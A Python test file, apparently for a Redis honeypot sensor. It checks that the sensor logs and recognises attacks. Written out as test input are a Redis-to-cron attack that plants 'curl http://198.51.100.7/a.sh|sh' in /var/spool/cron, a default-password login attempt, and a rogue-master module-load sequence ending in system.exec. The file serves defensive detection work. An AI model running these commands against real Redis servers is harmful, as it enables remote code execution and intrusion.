"""The real redis-cli at a whole sensor, and a rogue master that the sensor's own fetcher replicates from."""

from __future__ import annotations

import asyncio
import hashlib
from pathlib import Path

from eudaemon.payload.fetch.policy import FetchSettings
from payload.servers import content, serving, tool
from payload.test_fetch_redis import rogue
from sensor.harness import Running, events, running

LAB = FetchSettings(policy="attacker", lab_networks=("127.0.0.0/8",))


async def cli(net: Running, *words: str, given: bytes = b"") -> bytes:
    """Return what redis-cli prints."""
    process = await asyncio.create_subprocess_exec(
        tool("redis-cli", "redis-tools"), "-p", str(net.port), *words,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    async with asyncio.timeout(20):
        return (await process.communicate(given))[0]


async def test_a_person_with_redis_cli(tmp_path: Path) -> None:
    async with running(tmp_path, "redis") as net:
        assert await cli(net, "PING") == b"PONG\n"
        assert b"redis_mode:standalone" in await cli(net, "INFO")
        assert await cli(net, "GET", "x") == b"\n"
        said = await cli(
            net,
            given=b'SET x "\\n\\n*/1 * * * * curl http://198.51.100.7/a.sh|sh\\n\\n"\nCONFIG SET dir /var/spool/cron\n'
            b"CONFIG SET dbfilename root\nBGSAVE\nKEYS *\nDBSIZE\n",
        )
        assert said.splitlines() == [b"OK", b"OK", b"OK", b"Background saving started", b"x", b"1"]
        assert (await cli(net, "-a", "foobared", "--no-auth-warning", "PING")).strip().endswith(b"PONG")
        await net.until("download.finished")
    lines = [event.fact.line for event in events(tmp_path, "command.entered")]  # type: ignore[attr-defined]
    assert "CONFIG SET dir /var/spool/cron" in lines
    assert [event.fact.name for event in events(tmp_path, "exploit.recognised")] == ["redis-cron"]  # type: ignore[attr-defined]
    assert [event.fact.url for event in events(tmp_path, "download.wished")] == ["http://198.51.100.7/a.sh"]  # type: ignore[attr-defined]
    assert [event.fact.password for event in events(tmp_path, "login.tried")] == ["foobared"]  # type: ignore[attr-defined]
    assert not events(tmp_path, "sensor.faulted", "peer.faulted")


async def test_the_module_of_a_rogue_master_is_fetched_and_kept(tmp_path: Path) -> None:
    module = b"\x7fELF" + content(1_500_000)
    body = b"+FULLRESYNC " + b"Z" * 40 + b" 1\r\n$%d\r\n%s\r\n" % (len(module), module)
    async with serving(rogue(body)) as port, running(tmp_path, "redis", fetch=LAB) as net:
        reader, writer = await net.connect()

        async def say(line: str) -> bytes:
            writer.write(line.encode() + b"\r\n")
            return await reader.readline()

        assert await say("CONFIG SET dbfilename exp.so") == b"+OK\r\n"
        assert await say(f"SLAVEOF 127.0.0.1 {port}") == b"+OK\r\n"
        await net.until("download.finished")
        assert await say("MODULE LOAD ./exp.so") == b"+OK\r\n"
        assert await say("SLAVEOF NO ONE") == b"+OK\r\n"
        assert await say("system.exec 'head -c4 exp.so; id -u'") == b"$6\r\n"
        writer.close()
    (kept,) = (event.fact for event in events(tmp_path, "artefact.kept"))
    assert (kept.origin, kept.name, kept.url) == ("download", "exp.so", f"redis://127.0.0.1:{port}/")  # type: ignore[attr-defined]
    assert kept.sha256 == hashlib.sha256(module).hexdigest()  # type: ignore[attr-defined]
    assert (tmp_path / "artefacts" / kept.sha256).read_bytes() == module  # type: ignore[attr-defined]
    names = [event.fact.name for event in events(tmp_path, "exploit.recognised")]  # type: ignore[attr-defined]
    assert names == ["redis-rogue-master", "redis-module", "redis-module-command"]
